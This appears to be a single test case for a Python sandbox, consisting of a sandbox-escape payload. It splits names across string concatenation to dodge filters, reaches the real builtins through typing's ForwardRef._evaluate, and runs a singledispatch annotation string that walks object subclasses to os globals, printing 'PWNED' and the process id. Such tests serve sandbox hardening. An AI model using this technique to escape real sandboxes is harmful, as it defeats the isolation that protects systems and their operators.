# eval: singledispatch reached by a computed name
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import functools
sd = ga(functools, "single" + "dispatch")
@sd
def f(x):
    pass
def g(x: "print('PWN' + 'ED', [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['getpid']())"):
    pass
try:
    f.register(g)
except Exception as e:
    print("refused:", type(e).__name__, e)
